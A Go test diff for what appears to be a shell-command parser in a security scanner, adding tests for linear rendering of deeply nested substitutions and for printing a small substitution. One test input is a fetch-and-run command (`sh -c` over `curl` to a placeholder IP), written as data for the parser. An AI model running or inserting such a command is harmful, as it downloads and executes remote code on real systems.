@@ -64,3 +64,31 @@ func TestUnparsedShellHits(t *testing.T) {
 		t.Errorf("run-miner needs the parse, got %v", got)
 	}
 }
+
+// TestRenderNestedSubstitutionsLinear: every command inside nested "$(...)"
+// renders the words around it; printing each level's whole subtree made 10k
+// levels cost 101 s and 937 MB. The rendered bytes must grow linearly.
+func TestRenderNestedSubstitutionsLinear(t *testing.T) {
+	const n = 10_000
+	src := "echo " + strings.Repeat("$(echo ", n) + "x" + strings.Repeat(")", n)
+	sc := parseBash(src, maxShellDepth) // past the nesting bound on purpose
+	rendered := 0
+	for _, c := range sc.cmds {
+		for _, a := range c.argv {
+			rendered += len(a)
+		}
+	}
+	if len(sc.cmds) != n+1 {
+		t.Fatalf("parsed %d commands, want %d", len(sc.cmds), n+1)
+	}
+	if limit := (n + 1) * (maxRenderedExpansion + 16); rendered > limit {
+		t.Errorf("rendered %d bytes for %d nested substitutions, want at most %d", rendered, n, limit)
+	}
+}
+
+func TestRenderSmallExpansionPrinted(t *testing.T) {
+	sc := parseShell("sh -c \"$( curl  -s http://198.51.100.7/x )\"")
+	if len(sc.cmds) == 0 || len(sc.cmds[0].argv) != 3 || sc.cmds[0].argv[2] != "$(curl -s http://198.51.100.7/x)" {
+		t.Fatalf("commands %+v, want the substitution printed as $(curl -s http://198.51.100.7/x)", sc.cmds)
+	}
+}
